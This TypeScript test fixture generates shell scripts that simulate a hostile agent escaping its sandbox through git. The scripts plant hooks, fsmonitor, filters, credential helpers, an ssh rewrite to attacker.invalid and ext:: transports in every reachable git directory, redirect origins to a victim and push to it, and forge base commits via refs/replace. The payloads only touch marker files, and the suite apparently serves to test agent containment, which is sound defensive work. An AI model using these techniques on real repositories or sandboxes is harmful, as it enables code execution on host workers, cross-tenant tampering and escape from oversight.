/**
 * Shell scripts of the hostile suite, run by an agent (or install/test) command inside the sandbox.
 * Each script ends with `attack: done` so a test can tell that it ran to its end.
 */

/** Names of every hook git knows. */
const HOOKS = [
  'applypatch-msg',
  'pre-applypatch',
  'post-applypatch',
  'pre-commit',
  'pre-merge-commit',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'pre-rebase',
  'post-checkout',
  'post-merge',
  'pre-push',
  'pre-receive',
  'update',
  'proc-receive',
  'post-receive',
  'post-update',
  'reference-transaction',
  'push-to-checkout',
  'pre-auto-gc',
  'post-rewrite',
  'sendemail-validate',
  'fsmonitor-watchman',
  'post-index-change',
].join(' ');

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/**
 * Finds every git directory the agent can name: its git dir and common dir, what `.git` points to
 * (and its `commondir`), the repositories behind `objects/info/alternates`, sibling mirrors, and the
 * victim's mirror where the worker would keep it (`mirrors/<tenant>/<sha256(url)[:16]>.git`).
 * Leaves them, one per line, in `$dirs`.
 */
function findGitDirs(victim: string): string {
  return `
set +e
VICTIM=${q(victim)}
dirs=''
add() { if [ -n "$1" ] && [ -d "$1" ]; then p=$(cd "$1" 2>/dev/null && pwd -P) && dirs="$dirs $p"; fi; return 0; }
add "$(git rev-parse --absolute-git-dir 2>/dev/null)"
add "$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)"
if [ -f .git ]; then g=$(sed -n 's/^gitdir: //p' .git); add "$g"; [ -f "$g/commondir" ] && add "$g/$(cat "$g/commondir")"; fi
[ -d .git ] && add .git
for d in $dirs; do
  if [ -f "$d/objects/info/alternates" ]; then
    while read -r o; do case "$o" in /*) ;; *) o="$d/objects/$o";; esac; add "$o/.."; done < "$d/objects/info/alternates"
  fi
done
common=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)
vh=$(printf %s "$VICTIM" | sha256sum | cut -c1-16)
if [ -n "$common" ]; then for x in "$common/../../globex/$vh.git" "$common"/../*.git "$common"/../../*/*.git; do add "$x"; done; fi
dirs=$(printf '%s\\n' $dirs | sort -u)
echo "attack: git directories in reach:" $dirs
`;
}

/**
 * Plants, in every git directory in reach, every way of making git run a command: hooks (in `hooks/`
 * and through core.hooksPath), core.fsmonitor, clean/smudge filters and textconv/merge drivers
 * (through info/attributes, core.attributesFile and a .gitattributes in the worktree), diff.external,
 * core.pager/editor/sshCommand/askPass/gitProxy/alternateRefsCommand, credential helpers, gpg signing,
 * remote upload-pack/receive-pack commands, URL rewrites of the origin to ssh:// and ext:: transports,
 * and auto-gc. Every one of them touches `<marker dir>/<name>`.
 */
export function plantGitCommands(marker: string, victim: string, origin: string): string {
  return `${findGitDirs(victim)}
M=${q(marker)}
ORIGIN=${q(origin)}
plant() {
  d=$1
  mkdir -p "$d/hooks" "$d/ameide-hooks" "$d/info" 2>/dev/null
  printf '#!/bin/sh\\nn=$1; shift\\ntouch "%s/$n" 2>/dev/null\\nif [ $# -gt 0 ]; then exec "$@"; fi\\nexit 0\\n' "$M" > "$d/ameide-mark.sh" 2>/dev/null || return 0
  chmod 755 "$d/ameide-mark.sh"
  printf '#!/bin/sh\\ntouch "%s/fsmonitor" 2>/dev/null\\nexit 1\\n' "$M" > "$d/ameide-fsmonitor.sh"; chmod 755 "$d/ameide-fsmonitor.sh"
  printf '#!/bin/sh\\ntouch "%s/gpg-program" 2>/dev/null\\nexit 1\\n' "$M" > "$d/ameide-gpg.sh"; chmod 755 "$d/ameide-gpg.sh"
  printf '#!/bin/sh\\ntouch "%s/askpass" 2>/dev/null\\nexit 1\\n' "$M" > "$d/ameide-askpass.sh"; chmod 755 "$d/ameide-askpass.sh"
  for hk in ${HOOKS}; do
    printf '#!/bin/sh\\ntouch "%s/hook-%s" 2>/dev/null\\nexit 0\\n' "$M" "$hk" > "$d/hooks/$hk"; chmod 755 "$d/hooks/$hk"
    printf '#!/bin/sh\\ntouch "%s/hookspath-%s" 2>/dev/null\\nexit 0\\n' "$M" "$hk" > "$d/ameide-hooks/$hk"; chmod 755 "$d/ameide-hooks/$hk"
  done
  mk="$d/ameide-mark.sh"
  printf '* filter=ameide diff=ameide merge=ameide\\n' > "$d/ameide-attributes"
  printf '* filter=ameide diff=ameide merge=ameide\\n' >> "$d/info/attributes"
  c() { git config -f "$d/config" "$@" 2>/dev/null; }
  c core.hooksPath "$d/ameide-hooks"
  c core.fsmonitor "$d/ameide-fsmonitor.sh"
  c core.attributesFile "$d/ameide-attributes"
  c filter.ameide.clean "$mk filter-clean cat"
  c filter.ameide.smudge "$mk filter-smudge cat"
  c diff.ameide.textconv "$mk textconv cat"
  c merge.ameide.driver "$mk merge-driver true"
  c diff.external "$mk diff-external true"
  c core.pager "$mk pager cat"
  c core.editor "$mk editor true"
  c sequence.editor "$mk sequence-editor true"
  c core.sshCommand "$mk ssh-command false"
  c core.askPass "$d/ameide-askpass.sh"
  c core.gitProxy "$mk git-proxy false"
  c core.alternateRefsCommand "$mk alternate-refs-command true"
  c credential.helper "!$mk credential-helper true"
  c commit.gpgSign true
  c tag.gpgSign true
  c gpg.program "$d/ameide-gpg.sh"
  c remote.origin.uploadpack "$mk upload-pack git-upload-pack"
  c remote.origin.receivepack "$mk receive-pack git-receive-pack"
  c protocol.allow always
  c protocol.ext.allow always
  c "url.ssh://attacker.invalid/repo.git.insteadOf" "$ORIGIN"
  c "url.ext::$mk ext-transport false.pushInsteadOf" "$ORIGIN"
  c gc.auto 1
  c gc.autoDetach false
  c maintenance.auto true
  git config -f "$d/config" --get core.fsmonitor >/dev/null 2>&1 && echo "attack: planted in $d"
  return 0
}
for d in $dirs; do plant "$d"; done
# Attributes in the worktree too (committed with the change): any filter/textconv config picks them up.
printf '* filter=ameide diff=ameide merge=ameide\\n' > .gitattributes
# Exercise it here, inside the sandbox, where the marker directory does not exist.
git status --short >/dev/null 2>&1
echo "attack: done"
`;
}

/**
 * Throws away the worktree's git link and makes a repository of its own in the worktree, full of
 * hooks and commands (as above), with a commit on it: a worker that runs git in the worktree runs them.
 */
export function ownGitDir(marker: string, victim: string, origin: string): string {
  return `set +e
rm -rf .git
git init --quiet . && git add -A && git -c user.name=Agent -c user.email=agent@example.com commit --quiet --no-verify -m "own history"
${plantGitCommands(marker, victim, origin)}`;
}

/**
 * Points the origin of every reachable repository at the victim (remote.origin.url/pushurl, url
 * rewrites), and pushes to the victim directly from the sandbox.
 */
export function redirectToVictim(victim: string, origin: string): string {
  return `${findGitDirs(victim)}
ORIGIN=${q(origin)}
for d in $dirs; do
  c() { git config -f "$d/config" "$@" 2>/dev/null; }
  c remote.origin.url "$VICTIM"
  c remote.origin.pushurl "$VICTIM"
  c remote.pushDefault origin
  c "url.$VICTIM.insteadOf" "$ORIGIN"
  c "url.$VICTIM.pushInsteadOf" "$ORIGIN"
  git config -f "$d/config" --get remote.origin.url >/dev/null 2>&1 && echo "attack: redirected $d"
done
git push --quiet "$VICTIM" HEAD:refs/heads/pwned-from-sandbox 2>/dev/null && echo "attack: pushed to the victim from the sandbox"
echo "attack: done"
`;
}

/**
 * In every reachable repository: makes a commit that adds `injected.txt` on top of the run's base,
 * points origin/main, origin/HEAD, main and the next run's branch (`nextBranch`) at it, replaces the
 * base commit with it (refs/replace), and changes the fetch refspec so the next fetch repairs nothing
 * (but still succeeds).
 */
export function forgeBase(victim: string, nextBranch: string): string {
  return `${findGitDirs(victim)}
base=$(git rev-parse HEAD)
for d in $dirs; do
  G="git --git-dir=$d -c user.name=Attacker -c user.email=attacker@example.com"
  blob=$(echo 'injected by the attacker' | $G hash-object -w --stdin) || continue
  tree=$( ( $G ls-tree "$base"; printf '100644 blob %s\\tinjected.txt\\n' "$blob" ) | $G mktree) || continue
  evil=$(echo 'innocent looking commit' | $G commit-tree "$tree" -p "$base") || continue
  $G config --replace-all remote.origin.fetch '+refs/heads/*:refs/attacker/*'
  for r in refs/remotes/origin/main refs/remotes/origin/HEAD refs/heads/main refs/remotes/origin/${nextBranch} refs/heads/${nextBranch}; do $G update-ref "$r" "$evil" 2>/dev/null; done
  $G replace -f "$base" "$evil" 2>/dev/null
  [ "$($G rev-parse refs/remotes/origin/main 2>/dev/null)" = "$evil" ] && echo "attack: forged refs in $d"
done
echo "attack: done"
`;
}
